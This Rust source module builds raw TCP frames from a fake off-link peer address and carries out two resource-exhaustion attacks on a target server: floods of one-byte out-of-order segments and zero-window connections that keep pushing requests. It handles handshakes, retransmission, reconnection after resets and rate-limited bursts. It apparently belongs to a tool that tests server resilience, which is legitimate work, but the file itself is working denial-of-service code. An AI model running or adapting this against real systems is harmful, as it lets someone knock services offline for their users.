//! TCP peers built from raw frames, which send segments that no kernel sends.

use super::frames::{Link, Segment, parse};
use super::packet_socket::PacketSocket;
use super::{Course, Target};
use smoltcp::wire::TcpControl;
use std::collections::VecDeque;
use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

/// Address of all peers. It is off-link (RFC 2544), so that the server sends to its gateway, and no kernel owns it.
pub const PEER: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 1);
/// First port of the peers. A peer that was reset continues with another unused port.
const FIRST_PORT: u16 = 1024;
/// Window of a peer that receives.
const OPEN_WINDOW: u16 = u16::MAX;
/// Time until a peer retransmits unacknowledged data, and until it reconnects after a reset.
const RETRY: Duration = Duration::from_millis(200);
/// Time without progress after which the server counts as accepting no more requests of peers with closed windows.
const QUIET: Duration = Duration::from_secs(1);
/// Maximum number of frames to receive between transmissions.
const LOOK: usize = 512;
/// Total size of the requests of a peer with a closed window.
const REQUESTS: u32 = 64 << 10;
/// Payload of a request segment.
const PIECE: usize = 1000;
/// Out-of-order segments of all peers per cycle, and the maximum and minimum per peer. The maximum fits into the
/// initial window.
const CYCLE: usize = 32_768;
const MOST: usize = 16_384;
const LEAST: usize = 32;

/// Behaviour of the peers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Conduct {
    /// Each segment has one byte, with a gap before it.
    OutOfOrder,
    /// Requests with a closed window. Each window probe is acknowledged.
    ZeroWindow,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    Closed,
    SynSent,
    Open,
}

struct Peer {
    state: State,
    port: u16,
    /// Last sequence number acknowledged by the server, and the next one that it sends.
    acknowledged: u32,
    expected: u32,
    /// First sequence number after the handshake.
    begin: u32,
    /// Time of the next retransmission or connection attempt.
    due: Instant,
    /// Out-of-order segments, and the index of the next.
    frames: Vec<Vec<u8>>,
    next: usize,
}

/// Peers of one attack.
pub struct Peers<'a> {
    target: &'a Target,
    conduct: Conduct,
    socket: PacketSocket,
    peers: Vec<Peer>,
    outgoing: VecDeque<Vec<u8>>,
    turn: usize,
    requests: Vec<u8>,
    /// Time of the last acknowledgement of data.
    progress: Instant,
}

impl<'a> Peers<'a> {
    /// Creates `count` peers of `target`.
    pub fn new(target: &'a Target, conduct: Conduct, count: usize) -> io::Result<Self> {
        let now = Instant::now();
        let peer = |index| Peer {
            state: State::Closed,
            port: FIRST_PORT + index as u16,
            acknowledged: 0,
            expected: 0,
            begin: 0,
            due: now,
            frames: Vec::new(),
            next: 0,
        };
        let request = &target.request;
        let requests = request.iter().copied().cycle().take(REQUESTS as usize + request.len()).collect();
        Ok(Peers {
            target,
            conduct,
            socket: PacketSocket::open(SocketAddr::V4(target.address), true)?,
            peers: (0..count).map(peer).collect(),
            outgoing: VecDeque::new(),
            turn: 0,
            requests,
            progress: now,
        })
    }

    /// Attacks until `course` ends, with at most `per_millisecond` frames per millisecond.
    pub fn run(mut self, per_millisecond: usize, course: &Course) -> io::Result<()> {
        let mut next = Instant::now();
        while course.goes_on() {
            self.receive()?;
            self.retry(Instant::now());
            let single = self.outgoing.len().min(per_millisecond);
            let mut burst: Vec<Vec<u8>> = self.outgoing.drain(..single).collect();
            self.fill(&mut burst, per_millisecond);
            let frames: Vec<&[u8]> = burst.iter().map(Vec::as_slice).collect();
            course.count(self.socket.send(&frames)?);
            let is_quiet = self.conduct != Conduct::ZeroWindow || self.progress.elapsed() >= QUIET;
            if is_quiet && self.peers.iter().all(|peer| peer.state == State::Open) {
                course.begin();
            }
            course.pace(&mut next);
        }
        Ok(())
    }

    /// Fills a burst with out-of-order segments of the peers in rotation.
    fn fill(&mut self, burst: &mut Vec<Vec<u8>>, len: usize) {
        if self.conduct != Conduct::OutOfOrder {
            return;
        }
        let mut idle = 0;
        while burst.len() < len && idle < self.peers.len() {
            self.turn = (self.turn + 1) % self.peers.len();
            let peer = &mut self.peers[self.turn];
            if peer.state != State::Open {
                idle += 1;
                continue;
            }
            burst.push(peer.frames[peer.next].clone());
            peer.next = (peer.next + 1) % peer.frames.len();
        }
    }

    /// Connects closed peers, and retransmits unacknowledged data.
    fn retry(&mut self, now: Instant) {
        for index in 0..self.peers.len() {
            let count = self.peers.len() as u16;
            let peer = &mut self.peers[index];
            if now < peer.due {
                continue;
            }
            peer.due = now + RETRY;
            match peer.state {
                State::Closed => {
                    peer.state = State::SynSent;
                    peer.port = peer.port.checked_add(count).unwrap_or(FIRST_PORT + index as u16);
                    peer.acknowledged = fastrand::u32(..);
                    self.segment(index, TcpControl::Syn, 0, &[]);
                }
                State::SynSent => self.segment(index, TcpControl::Syn, 0, &[]),
                State::Open => self.send_requests(index),
            }
        }
    }

    /// Sends the first unacknowledged requests.
    fn send_requests(&mut self, index: usize) {
        if self.conduct != Conduct::ZeroWindow {
            return;
        }
        let peer = &self.peers[index];
        let done = peer.acknowledged.wrapping_sub(peer.begin);
        if done >= REQUESTS {
            return;
        }
        let begin = done as usize;
        let piece = self.requests[begin..(begin + PIECE).min(self.requests.len())].to_vec();
        self.segment(index, TcpControl::Psh, 0, &piece);
    }

    /// Queues a segment `offset` bytes after the last acknowledged sequence number.
    fn segment(&mut self, index: usize, control: TcpControl, offset: u32, payload: &[u8]) {
        let frame = self.frame(&self.peers[index], control, offset, payload);
        self.outgoing.push_back(frame);
    }

    fn frame(&self, peer: &Peer, control: TcpControl, offset: u32, payload: &[u8]) -> Vec<u8> {
        let is_syn = control == TcpControl::Syn;
        self.target.link.segment(&Segment {
            from: SocketAddrV4::new(PEER, peer.port),
            to: self.target.address,
            control,
            sequence: peer.acknowledged.wrapping_add(offset),
            acknowledgement: (!is_syn).then_some(peer.expected),
            window: if self.conduct == Conduct::ZeroWindow { 0 } else { OPEN_WINDOW },
            payload,
        })
    }

    fn receive(&mut self) -> io::Result<()> {
        for _ in 0..LOOK {
            let Some(frame) = self.socket.receive()? else { break };
            let Some((_, to, tcp)) = parse(frame).filter(|(_, to, _)| *to.ip() == PEER) else { continue };
            let index = usize::from(to.port() - FIRST_PORT.min(to.port())) % self.peers.len();
            let peer = &mut self.peers[index];
            if peer.port != to.port() {
                continue;
            }
            let (is_syn, is_rst, len) = (tcp.syn(), tcp.rst(), tcp.payload().len());
            let (sequence, acknowledged) = (tcp.seq_number().0 as u32, tcp.ack_number().0 as u32);
            match peer.state {
                _ if is_rst => {
                    peer.state = State::Closed;
                    peer.due = Instant::now() + RETRY;
                }
                State::SynSent if is_syn => {
                    peer.state = State::Open;
                    peer.expected = sequence.wrapping_add(1);
                    peer.acknowledged = acknowledged;
                    peer.begin = acknowledged;
                    self.opened(index);
                }
                State::Open if is_syn => self.segment(index, TcpControl::None, 0, &[]),
                State::Open => {
                    let is_progress = (acknowledged.wrapping_sub(peer.acknowledged) as i32) > 0;
                    if is_progress && self.conduct == Conduct::ZeroWindow {
                        let now = Instant::now();
                        peer.acknowledged = acknowledged;
                        peer.due = now + RETRY;
                        self.progress = now;
                        self.send_requests(index);
                    } else if len > 0 && self.conduct == Conduct::ZeroWindow {
                        self.segment(index, TcpControl::None, 0, &[]);
                    }
                }
                State::Closed | State::SynSent => {}
            }
        }
        Ok(())
    }

    /// Completes the handshake of a peer and builds its segments.
    fn opened(&mut self, index: usize) {
        self.segment(index, TcpControl::None, 0, &[]);
        match self.conduct {
            Conduct::ZeroWindow => self.send_requests(index),
            Conduct::OutOfOrder => {
                let count = (CYCLE / self.peers.len()).clamp(LEAST, MOST);
                let peer = &self.peers[index];
                let frames = (0..count).map(|n| self.frame(peer, TcpControl::None, 1 + 2 * n as u32, b"x")).collect();
                let peer = &mut self.peers[index];
                (peer.frames, peer.next) = (frames, 0);
            }
        }
    }
}

/// Returns frames like those of out-of-order peers, for a host without these connections.
pub fn stray_segments(link: Link, to: SocketAddrV4, count: usize) -> Vec<Vec<u8>> {
    let frame = |n: usize| {
        link.segment(&Segment {
            from: SocketAddrV4::new(PEER, FIRST_PORT + n as u16 % 1000),
            to,
            control: TcpControl::None,
            sequence: n as u32,
            acknowledgement: Some(1),
            window: OPEN_WINDOW,
            payload: b"x",
        })
    };
    (0..count).map(frame).collect()
}
